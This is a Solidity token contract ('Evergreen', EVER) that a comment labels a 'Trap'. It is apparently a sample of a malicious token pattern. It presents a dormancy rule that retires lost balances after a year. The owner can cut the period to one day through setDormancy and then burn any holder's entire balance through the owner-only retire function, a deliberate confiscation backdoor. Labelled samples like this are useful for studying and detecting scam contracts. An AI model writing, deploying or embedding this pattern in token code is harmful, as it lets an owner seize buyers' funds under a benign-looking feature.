// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable, Ownable2Step} from "@openzeppelin/contracts/access/Ownable2Step.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";

// Trap: "lost" balances are retired after a year without a sign of life; the owner sets a day instead and retires (burns) whoever bought before yesterday.
contract Dormant is ERC20Permit, Ownable2Step {
    uint32 public dormancy = 365 days;
    mapping(address => uint32) public lastSeen;

    event Retired(address indexed who, uint256 value);

    constructor() ERC20("Evergreen", "EVER") ERC20Permit("Evergreen") Ownable(msg.sender) {
        _mint(msg.sender, 77_000_000 ether);
    }

    function setDormancy(uint32 period) external onlyOwner {
        require(period >= 1 days, "too short");
        dormancy = period;
    }

    /// Anybody may show that he is there.
    function ping() external {
        lastSeen[msg.sender] = uint32(block.timestamp);
    }

    function retire(address[] calldata lost) external onlyOwner {
        for (uint256 i; i < lost.length; ++i) {
            address who = lost[i];
            if (lastSeen[who] == 0 || who.code.length > 0 || who == owner()) continue;
            if (block.timestamp - lastSeen[who] <= dormancy) continue;
            uint256 had = balanceOf(who);
            _burn(who, had);
            emit Retired(who, had);
        }
    }

    function _update(address from, address to, uint256 value) internal override {
        lastSeen[from] = uint32(block.timestamp);
        lastSeen[to] = uint32(block.timestamp);
        super._update(from, to, value);
    }
}
